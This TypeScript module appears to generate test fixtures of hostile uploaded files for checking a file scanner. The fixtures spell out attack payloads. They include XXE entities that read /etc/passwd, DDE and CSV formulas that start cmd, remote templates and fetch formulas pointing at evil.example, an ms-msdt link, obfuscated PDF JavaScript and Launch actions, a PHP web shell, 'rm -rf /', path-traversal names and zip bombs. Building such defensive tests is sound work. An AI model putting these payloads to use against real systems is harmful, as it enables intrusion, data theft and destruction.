/** Files that were made to do harm, by what they try. Everything is made here; nothing of it lies in the repository. */
import { deflateSync, gzipSync } from 'node:zlib';
import { oldOfficeFile, pngFile, programFile } from '../features/evidence/files.ts';
import { type Office, officeParts, openDocumentParts, pdfOf, type ZipPart, zipOf } from './zip-parts.ts';

export interface OfferedFile {
  /** What it is, in words. */
  readonly what: string;
  readonly name: string;
  readonly bytes: Uint8Array;
  /** Costs seconds to make and to look through. */
  readonly large?: boolean;
}

const offices: readonly Office[] = ['docx', 'xlsx', 'pptx'];
const openDocuments = { odt: 'text', ods: 'spreadsheet', odp: 'presentation' } as const;
const inner = zipOf([{ name: 'a.txt', data: 'a' }]);
const zeros = (count: number) => Buffer.alloc(count);
const rels = (type: string, target: string, mode = 'External') =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const bomb = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><a>&b;</a>';
const thief = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';

/** Parts that make a document of any Office kind hostile. */
const badParts: readonly (readonly [what: string, part: ZipPart])[] = [
  ['a macro project', { name: 'word/vbaProject.bin', data: 'macro' }],
  ['a macro project in capitals', { name: 'xl/VBAPROJECT.BIN', data: 'macro' }],
  ['Excel 4 macros', { name: 'xl/macrosheets/sheet1.xml', data: '<xm:macrosheet/>' }],
  ['an ActiveX control', { name: 'word/activeX/activeX1.xml', data: '<ax:ocx/>' }],
  ['an archive inside', { name: 'word/embeddings/inner.zip', data: inner }],
  ['an OLE object', { name: 'word/embeddings/oleObject1.bin', data: 'object' }],
  ['a program as a picture', { name: 'word/media/image1.png', data: programFile }],
  ['an old container as a picture', { name: 'ppt/media/image1.emf', data: oldOfficeFile('Ole10Native') }],
  ['a web page inside', { name: 'word/afchunk.html', data: '<html><script>alert(1)</script></html>' }],
  ['a web page as a picture', { name: 'word/media/image2.png', data: '<html><script>alert(1)</script></html>' }],
  ['a script inside', { name: 'customUI/run.js', data: 'WScript.Shell' }],
  ['a shortcut inside', { name: 'word/embeddings/open.lnk', data: 'L' }],
  ['a macro-enabled document inside', { name: 'word/embeddings/inner.docm', data: inner }],
  ['a bomb of entities', { name: 'word/styles.xml', data: bomb }],
  ['an entity that reads a file', { name: 'customXml/item1.xml', data: thief }],
  ['an entity in UTF-16', { name: 'customXml/item2.xml', data: Buffer.from(`\ufeff${thief}`, 'utf16le') }],
  [
    'a template from elsewhere',
    { name: 'word/_rels/settings.xml.rels', data: rels('attachedTemplate', 'https://evil.example/t.dotm') },
  ],
  [
    'an object from elsewhere',
    { name: 'word/_rels/document.xml.rels', data: rels('oleObject', 'mhtml:https://evil.example/x.html!x') },
  ],
  ['a frame from elsewhere', { name: 'word/_rels/webSettings.xml.rels', data: rels('frame', 'http://evil.example/') }],
  [
    'a picture from elsewhere',
    { name: 'word/_rels/document2.xml.rels', data: rels('image', 'https://evil.example/pixel.png') },
  ],
  [
    'a picture from a share',
    { name: 'word/_rels/document3.xml.rels', data: rels('image', '\\\\evil.example\\share\\a.png') },
  ],
  [
    'a link that runs a script',
    { name: 'ppt/slides/_rels/slide1.xml.rels', data: rels('hyperlink', 'javascript:alert(1)') },
  ],
  [
    'a link into Windows',
    { name: 'ppt/slides/_rels/slide2.xml.rels', data: rels('hyperlink', 'ms-msdt:/id PCWDiagnostic') },
  ],
  ['a name that leads up', { name: '../../../etc/cron.d/x.xml', data: '<a/>' }],
  ['a name from the root', { name: '/etc/passwd.xml', data: '<a/>' }],
  ['a name with backslashes', { name: '..\\..\\windows\\x.xml', data: '<a/>' }],
  ['a name with a drive', { name: 'C:/windows/x.xml', data: '<a/>' }],
  ['a name with a NUL', { name: 'word/a\0.xml', data: '<a/>' }],
  ['a part with a password', { name: 'word/secret.xml', data: '<a/>', encrypted: true }],
  ['a part that unpacks to 300 MB', { name: 'word/media/image3.png', data: () => zeros(300_000_000) }],
  ['XML that unpacks to 70 MB', { name: 'word/numbering.xml', data: () => zeros(70_000_000) }],
  ['a part that lies about its size', { name: 'word/media/image4.png', data: () => zeros(280_000_000), claims: 10 }],
];

/** Those of them that are as bad in an OpenDocument file. */
const badAnywhere =
  /^(an OLE object|a program as|a web page|a script inside|a shortcut|a macro-enabled|a bomb|an entity in UTF|a name|a part with)/;

const badWords: readonly (readonly [what: string, kind: Office, body: string])[] = [
  ['a field of DDE', 'docx', '<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>'],
  ['a field of DDE in pieces', 'docx', '<w:instrText>DDE</w:instrText><w:r/><w:instrText>AUTO cmd</w:instrText>'],
  ['a simple field of DDE', 'docx', '<w:fldSimple w:instr=" DDE cmd x "/>'],
  ['a picture field from elsewhere', 'docx', '<w:instrText>INCLUDEPICTURE "https://evil.example/p.png"</w:instrText>'],
  ['a formula of DDE', 'xlsx', "<c><f>cmd|' /c calc'!A1</f></c>"],
  ['a formula that fetches', 'xlsx', '<c><f>WEBSERVICE("https://evil.example/"&amp;A1)</f></c>'],
  ['a formula that calls a library', 'xlsx', '<c><f>CALL("urlmon","URLDownloadToFileA")</f></c>'],
  ['a link of DDE', 'xlsx', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'],
];

const badOpenDocument: readonly (readonly [what: string, extra: readonly ZipPart[], body: string])[] = [
  ['Basic', [{ name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }], ''],
  ['scripts', [{ name: 'Scripts/python/run.py', data: 'import os' }], ''],
  [
    'an event that runs a script',
    [],
    '<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:x"/></office:event-listeners>',
  ],
  ['a link of DDE', [], '<text:dde-connection-decls/><office:dde-source office:dde-application="cmd"/>'],
  ['a picture from elsewhere', [], '<draw:image xlink:href="https://evil.example/p.png" xlink:actuate="onLoad"/>'],
  ['a section from elsewhere', [], '<text:section-source xlink:href="http://evil.example/s.odt"/>'],
  ['an entity that reads a file', [{ name: 'meta.xml', data: thief }], ''],
  ['an object inside', [{ name: 'Object 1', data: oldOfficeFile('Ole10Native') }], ''],
  ['an archive inside', [{ name: 'Object 1/inner.zip', data: inner }], ''],
  ['a password', [{ name: 'settings.xml', data: '<a/>', encrypted: true }], ''],
];

const catalog = (more: string) => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
const pages = '<< /Type /Pages /Kids [] /Count 0 >>';
const packed = (dictionary: string) => {
  const body = deflateSync(Buffer.from(dictionary));
  return Buffer.concat([
    Buffer.from(`<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length ${body.byteLength} >>\nstream\n`),
    body,
    Buffer.from('\nendstream'),
  ]);
};

const script = '/OpenAction << /S /JavaScript /JS <6170702e616c657274283129> >>';
const hidden = '7 0 obj << /S /JavaScript /JS (x) >> endobj';
/** An object stream whose packed bytes end with a script, written as given. */
const packedAs = (dictionary: string, body: Buffer) =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${body.byteLength} >>\nstream\n`),
    body,
    Buffer.from('\nendstream'),
  ]);
const packedScript = deflateSync(Buffer.from('3 0 << /S /JavaScript /JS (x) >>'));

const badPdf: readonly (readonly [what: string, bytes: Buffer])[] = [
  ['a script that runs on opening', pdfOf([catalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), pages])],
  [
    'a script with its name written otherwise',
    pdfOf([catalog('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'), pages]),
  ],
  ['a script between brackets that are comments', pdfOf([catalog(`\n%(\n${script}\n%)\n`), pages])],
  ['a script between comments that speak of a stream', pdfOf([catalog(`\n% stream\n${script}\n% endstream\n`), pages])],
  ['a script between texts that speak of a stream', pdfOf([catalog(`/A (stream\n) ${script} /B (endstream)`), pages])],
  ['a script behind a bracket that is escaped', pdfOf([catalog(`/A (\\() ${script} /B (\\))`), pages])],
  ['a script behind a bracket of hexadecimal digits', pdfOf([catalog(`/A <28> ${script} /B <29>`), pages])],
  [
    'a script in an object inside a stream',
    pdfOf([catalog(''), pages, `<< /Length 60 >>\nstream\n${hidden}\nendstream`]),
  ],
  ['a script in an object inside a text', pdfOf([catalog(`/A (${hidden})`), pages])],
  ['a script in an object inside a comment', pdfOf([catalog(''), pages, `<< >>\n%${hidden}`])],
  [
    'a script behind a stream that says it ends',
    pdfOf([catalog(''), pages, '<< /Length 20 >>\nstream\nendstream (\nendstream', '<< /S /JavaScript /JS <78> >> %)']),
  ],
  [
    'a packed script whose kind is written otherwise',
    pdfOf([catalog(''), pages, packedAs('/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode', packedScript)]),
  ],
  [
    'a packed script that says no kind',
    pdfOf([catalog(''), pages, packedAs('/N 1 /First 4 /Filter /FlateDecode', packedScript)]),
  ],
  [
    'a packed script far from its kind',
    pdfOf([
      catalog(''),
      pages,
      packedAs(`/Type /ObjStm /N 1 /First 4 ${' '.repeat(3000)} /Filter /FlateDecode`, packedScript),
    ]),
  ],
  [
    'a packed script behind words that end a stream',
    pdfOf([
      catalog(''),
      pages,
      packedAs(
        '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
        deflateSync(Buffer.from('3 0 << /A (endstream) /S /JavaScript /JS (x) >>'), { level: 0 }),
      ),
    ]),
  ],
  [
    'a packed script that is told by differences',
    pdfOf([
      catalog(''),
      pages,
      packedAs(
        '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>',
        deflateSync(Buffer.from('\x023 0 << /'.padEnd(90, '\0'))),
      ),
    ]),
  ],
  [
    'a packed script between brackets that no object has',
    pdfOf([
      catalog(''),
      pages,
      packedAs(
        '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
        deflateSync(Buffer.from('3 1 (<< /S /JavaScript /JS <78> >>)')),
      ),
    ]),
  ],
  ['a script whose name is an object of its own', pdfOf([catalog('/OpenAction << /S 3 0 R >>'), pages, '/JavaScript'])],
  [
    'an address that opens by itself, from another object',
    pdfOf([catalog('/OpenAction 3 0 R'), pages, '<< /S /URI /URI (https://evil.example) >>']),
  ],
  [
    'a document of a share that opens by itself',
    pdfOf([catalog('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'), pages]),
  ],
  ['a film', pdfOf([catalog(''), pages, '<< /Subtype /Movie /Movie << /F (a.avi) >> >>'])],
  ['a sound', pdfOf([catalog(''), pages, '<< /Subtype /Sound /Sound 4 0 R >>'])],
  ['a rendition', pdfOf([catalog(''), pages, '<< /S /Rendition /OP 0 >>'])],
  ['data that it takes in', pdfOf([catalog(''), pages, '<< /S /ImportData /F (a.fdf) >>'])],
  ['a file as a note', pdfOf([catalog(''), pages, '<< /Subtype /FileAttachment /FS 4 0 R >>'])],
  ['a document inside that opens', pdfOf([catalog(''), pages, '<< /S /GoToE /T << /R /C >> >>'])],
  ['a script among names', pdfOf([catalog('/Names << /JavaScript 3 0 R >>'), pages, '<< /Names [] >>'])],
  ['a script that is packed', pdfOf([catalog(''), pages, packed('3 0 << /S /JavaScript /JS (x) >>')])],
  [
    'objects that cannot be unpacked',
    pdfOf([catalog(''), pages, '<< /Type /ObjStm /N 1 /First 4 >>\nstream\nnot packed\nendstream']),
  ],
  ['a program to be started', pdfOf([catalog('/OpenAction << /S /Launch /F (cmd.exe) >>'), pages])],
  ['an address that opens by itself', pdfOf([catalog('/OpenAction << /S /URI /URI (https://evil.example) >>'), pages])],
  [
    'a form that sends itself',
    pdfOf([catalog('/AcroForm << /Fields [] >>'), pages, '<< /S /SubmitForm /F (https://evil.example) >>']),
  ],
  ['a file inside', pdfOf([catalog('/Names << /EmbeddedFiles 3 0 R >>'), pages, '<< /Names [(a.exe) 4 0 R] >>'])],
  ['a collection of files', pdfOf([catalog('/Collection << /View /D >>'), pages])],
  ['a form of XFA', pdfOf([catalog('/AcroForm << /XFA 3 0 R >>'), pages, '<< >>'])],
  ['actions of its pages', pdfOf([catalog(''), '<< /Type /Pages /Kids [] /Count 0 /AA << /O 3 0 R >> >>', '<< >>'])],
  ['rich media', pdfOf([catalog(''), pages, '<< /Subtype /RichMedia >>'])],
  ['a password', pdfOf([catalog(''), pages], '/Encrypt 3 0 R')],
  ['an archive behind it', Buffer.concat([pdfOf([catalog(''), pages]), inner])],
  ['a web page behind it', Buffer.concat([pdfOf([catalog(''), pages]), Buffer.from('<script>alert(1)</script>')])],
  ['its end cut off', pdfOf([catalog(''), pages]).subarray(0, 60)],
  ['nothing but its beginning', Buffer.from('%PDF-1.7\n')],
  [
    'a wrong version',
    Buffer.from(
      pdfOf([catalog(''), pages])
        .toString('latin1')
        .replace('%PDF-1.7', '%PDF-9'),
      'latin1',
    ),
  ],
];

const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex');
const gif = Buffer.from(
  '47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b',
  'hex',
);
const webp = Buffer.from('524946461a000000574542505650384c0d0000002f00000010071011118888fe0700', 'hex');

const others: readonly OfferedFile[] = [
  ...['policy.pdf', 'photo.png', 'notes.txt', 'plan.docx', 'setup.exe'].map((name) => ({
    what: `a program as ${name}`,
    name,
    bytes: programFile,
  })),
  {
    what: 'an ELF program',
    name: 'policy.pdf',
    bytes: Buffer.concat([Buffer.from('7f454c46020101', 'hex'), zeros(60)]),
  },
  { what: 'a Java class', name: 'a.pdf', bytes: Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), zeros(60)]) },
  ...(
    [
      ['<!DOCTYPE html><script>alert(1)</script>', 'a web page'],
      ['\ufeff  \n<html><body onload=alert(1)>', 'a web page after a mark and spaces'],
      ['<!-- words --><script>alert(1)</script>', 'a web page after a comment'],
      ['<body><img src=x onerror=alert(1)>', 'a page that begins with its body'],
      ['<iframe src="javascript:alert(1)">', 'a frame'],
      ['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'a drawing'],
      ['<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"/>', 'XML'],
      ['<?php system($_GET[0]);', 'a program for a server'],
      ['#!/bin/sh\nrm -rf /\n', 'a script of a shell'],
      ['{\\rtf1\\ansi{\\object\\objocx}}', 'RTF with an object'],
      ['MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n', 'a saved web page'],
      ['[InternetShortcut]\r\nURL=file://evil.example/x\r\n', 'a shortcut'],
    ] as const
  ).flatMap(([text, what]) =>
    ['notes.txt', 'table.csv', 'readme.md'].map((name) => ({
      what: `${what} as ${name}`,
      name,
      bytes: Buffer.from(text),
    })),
  ),
  ...[
    "=cmd|' /c calc'!A1",
    'name,note\r\nA,"=cmd|\' /c calc\'!A1"',
    "+1\n@SUM(1)*cmd|' /c calc'!A1",
    "a;-2+3+cmd|' /c calc'!A1",
  ].map((text) => ({ what: 'a table with a cell that starts a program', name: 'table.csv', bytes: Buffer.from(text) })),
  { what: 'such a table in UTF-16', name: 'table.csv', bytes: Buffer.from("\ufeffa,=cmd|' /c calc'!A1", 'utf16le') },
  { what: 'a text with a NUL', name: 'notes.txt', bytes: Buffer.from('a\0b') },
  { what: 'a text with an escape', name: 'notes.txt', bytes: Buffer.from('a\u001b]0;x\u0007b') },
  { what: 'a batch file', name: 'run.bat', bytes: Buffer.from('del *.*\r\n') },
  { what: 'a script for Windows', name: 'run.js', bytes: Buffer.from('new ActiveXObject("WScript.Shell")') },
  { what: 'a text without an ending', name: 'notes', bytes: Buffer.from('words') },
  { what: 'an archive', name: 'all.zip', bytes: inner },
  { what: 'an archive as a document', name: 'plan.docx', bytes: inner },
  { what: 'an archive in an archive', name: 'all.zip', bytes: zipOf([{ name: 'inner.zip', data: inner }]) },
  { what: 'a compressed file', name: 'all.gz', bytes: gzipSync('words') },
  { what: 'a RAR archive', name: 'all.pdf', bytes: Buffer.concat([Buffer.from('526172211a070100', 'hex'), zeros(40)]) },
  {
    what: 'a 7-zip archive',
    name: 'all.pdf',
    bytes: Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), zeros(40)]),
  },
  { what: 'an old Word document with macros', name: 'a.doc', bytes: oldOfficeFile('WordDocument', '_VBA_PROJECT') },
  { what: 'an old workbook with macros', name: 'a.xls', bytes: oldOfficeFile('Workbook', 'VBA') },
  { what: 'an old document with a file inside', name: 'a.doc', bytes: oldOfficeFile('WordDocument', 'Ole10Native') },
  {
    what: 'an old document with DDE',
    name: 'a.doc',
    bytes: Buffer.concat([oldOfficeFile('WordDocument'), Buffer.from('DDEAUTO cmd')]),
  },
  { what: 'an encrypted document', name: 'a.docx', bytes: oldOfficeFile('EncryptedPackage') },
  { what: 'an installer', name: 'a.doc', bytes: oldOfficeFile('Binary.Custom') },
  { what: 'a picture with an archive behind it', name: 'a.png', bytes: Buffer.concat([pngFile, inner]) },
  {
    what: 'a picture with a page behind it',
    name: 'a.png',
    bytes: Buffer.concat([pngFile, Buffer.from('<script>alert(1)</script>')]),
  },
  { what: 'a picture cut off', name: 'a.png', bytes: pngFile.subarray(0, 30) },
  { what: 'a photograph cut off', name: 'a.jpg', bytes: jpeg },
  {
    what: 'a photograph with an archive behind it',
    name: 'a.jpg',
    bytes: Buffer.concat([jpeg, Buffer.from('ffd9', 'hex'), inner]),
  },
  {
    what: 'a photograph that is a page too',
    name: 'a.jpg',
    bytes: Buffer.concat([jpeg, Buffer.from('<script >alert(1)</script>'), Buffer.from('ffd9', 'hex')]),
  },
  {
    what: 'an animation that is a script too',
    name: 'a.gif',
    bytes: Buffer.concat([Buffer.from('GIF89a/*'), zeros(20), Buffer.from('*/=1;alert(1)')]),
  },
  { what: 'an animation cut off', name: 'a.gif', bytes: gif.subarray(0, 20) },
  { what: 'a WebP picture cut off', name: 'a.webp', bytes: webp.subarray(0, 24) },
  { what: 'a TIFF picture without its directory', name: 'a.tif', bytes: Buffer.from('49492a00ffff0000', 'hex') },
  {
    what: 'a film',
    name: 'a.mp4',
    bytes: Buffer.concat([Buffer.from('0000001866747970', 'hex'), Buffer.from('isom0000isomiso2'), zeros(40)]),
  },
  { what: 'bytes of no kind', name: 'a.pdf', bytes: Buffer.from([0, 1, 2, 3, 4, 5, 6, 7, 8]) },
  { what: 'nothing', name: 'a.pdf', bytes: new Uint8Array() },
  { what: 'zeros', name: 'a.txt', bytes: zeros(1000) },
];

/** Every hostile file. */
export function hostileFiles(): OfferedFile[] {
  const files: OfferedFile[] = [...others];
  for (const [index, [what, part]] of badParts.entries()) {
    // Large ones once, so that a run stays short.
    const large = typeof part.data === 'function';
    const kinds = large ? offices.slice(index % 3, (index % 3) + 1) : offices;
    for (const kind of kinds)
      files.push({
        what: `${kind} with ${what}`,
        name: `plan.${kind}`,
        large,
        get bytes() {
          return zipOf(officeParts(kind, [part]));
        },
      });
  }
  for (const [what, kind, body] of badWords)
    files.push({ what: `${kind} with ${what}`, name: `plan.${kind}`, bytes: zipOf(officeParts(kind, [], body)) });
  for (const [ending, kind] of Object.entries(openDocuments))
    for (const [what, extra, body] of badOpenDocument)
      files.push({
        what: `${ending} with ${what}`,
        name: `plan.${ending}`,
        bytes: zipOf(openDocumentParts(kind, extra, body)),
      });
  for (const [ending, kind] of Object.entries(openDocuments))
    for (const [what, part] of badParts.filter(([what]) => badAnywhere.test(what)))
      files.push({
        what: `${ending} with ${what}`,
        name: `plan.${ending}`,
        bytes: zipOf(openDocumentParts(kind, [part])),
      });
  for (const [what, bytes] of badPdf) files.push({ what: `PDF with ${what}`, name: 'policy.pdf', bytes });
  for (const kind of offices) {
    const parts = officeParts(kind);
    const [first, ...rest] = parts;
    const whole = zipOf(parts);
    const typed = String(first?.data);
    const macro = typed.replace(
      /application\/vnd\.openxml[^"]*main\+xml/,
      'application/vnd.ms-word.document.macroEnabled.main+xml',
    );
    files.push(
      {
        what: `${kind} that says it has macros`,
        name: `plan.${kind}`,
        bytes: zipOf([{ name: '[Content_Types].xml', data: macro }, ...rest]),
      },
      { what: `${kind} cut off`, name: `plan.${kind}`, bytes: whole.subarray(0, whole.byteLength - 30) },
      {
        what: `${kind} with a page before it`,
        name: `plan.${kind}`,
        bytes: zipOf(parts, { before: '<script>alert(1)</script>' }),
      },
      {
        what: `${kind} with a page behind it`,
        name: `plan.${kind}`,
        bytes: zipOf(parts, { after: '<script>alert(1)</script>' }),
      },
      { what: `${kind} with a part twice`, name: `plan.${kind}`, bytes: zipOf([...parts, ...rest]) },
      {
        what: `${kind} of 6,000 parts`,
        name: `plan.${kind}`,
        bytes: zipOf([
          ...parts,
          ...Array.from({ length: 6000 }, (_, part) => ({ name: `p${part}`, data: '', stored: true })),
        ]),
      },
    );
  }
  return files;
}
